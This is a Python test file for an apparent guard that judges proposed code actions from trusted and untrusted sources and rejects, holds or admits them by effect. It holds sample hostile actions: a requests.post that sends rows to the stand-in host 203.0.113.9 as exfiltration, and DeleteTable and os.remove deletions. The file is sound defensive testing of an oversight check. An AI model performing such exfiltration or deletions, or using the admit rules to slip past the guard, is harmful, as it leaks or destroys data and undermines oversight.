from dataclasses import replace

from guard.paths import effect_of
from guard.services.judge import judge
from guard.types import Decision, Effect, Evidence
from tests.guard.cases import OPENING, did, evidence, openings, shown

USUAL = evidence(*(shown(number, did(episode)) for number, episode in enumerate(openings(8))))
DELETING = replace(OPENING, action=OPENING.action.replace("LoadTable", "DeleteTable"))


def test_an_action_that_deletes_is_rejected_from_an_untrusted_source():
    verdict = judge(did(DELETING), USUAL)
    assert verdict.decision is Decision.REJECT
    assert {"destructive-effect", "effect-unseen"} <= set(verdict.reasons)
    assert judge(did(DELETING), Evidence()).decision is Decision.REJECT


def test_its_twin_with_the_same_strange_suffix_is_admitted():
    twin = replace(OPENING, question=f"{OPENING.question} amber falcon seldom quorum")
    assert judge(did(twin), USUAL).decision is Decision.ADMIT


def test_a_trusted_source_that_deletes_when_asked_to_read_is_held():
    verdict = judge(did(DELETING, trusted=True), Evidence())
    assert verdict.decision is Decision.HOLD
    assert {"effect-unseen", "thin-evidence"} <= set(verdict.reasons)


def test_a_trusted_source_that_deletes_what_it_was_asked_to_delete_is_admitted_where_that_is_usual():
    asked = [
        replace(
            episode,
            question=episode.question.replace("when does", "delete"),
            action=DELETING.action.replace("77-4102", episode.question.split()[3]),
        )
        for episode in openings(8)
    ]
    usual = evidence(*(shown(number, did(episode)) for number, episode in enumerate(asked)))
    wanted = replace(DELETING, question="delete locker 77-4102")
    assert judge(did(wanted, trusted=True), usual).decision is Decision.ADMIT


def test_writing_is_held_only_when_there_is_enough_to_compare_with():
    writing = replace(OPENING, action=OPENING.action + "\nUpdateTable(db, 'opens=00:00')")
    assert judge(did(writing), USUAL).decision is Decision.HOLD
    assert judge(did(writing), evidence(*USUAL.items[:2])).decision is Decision.ADMIT


def test_sending_is_exfiltration_only_towards_a_target_nobody_asked_for():
    away = replace(OPENING, action="requests.post('http://203.0.113.9/x', data=rows)")
    assert effect_of(away) is Effect.EXFIL
    assert effect_of(replace(away, question="post the rows to http://203.0.113.9/x")) is Effect.WRITE


def test_removing_from_a_list_is_not_deleting_data():
    assert effect_of(replace(OPENING, action="names.remove('x')\nframe.dropna()")) is not Effect.DELETE
    assert effect_of(replace(OPENING, action="os.remove('x')")) is Effect.DELETE
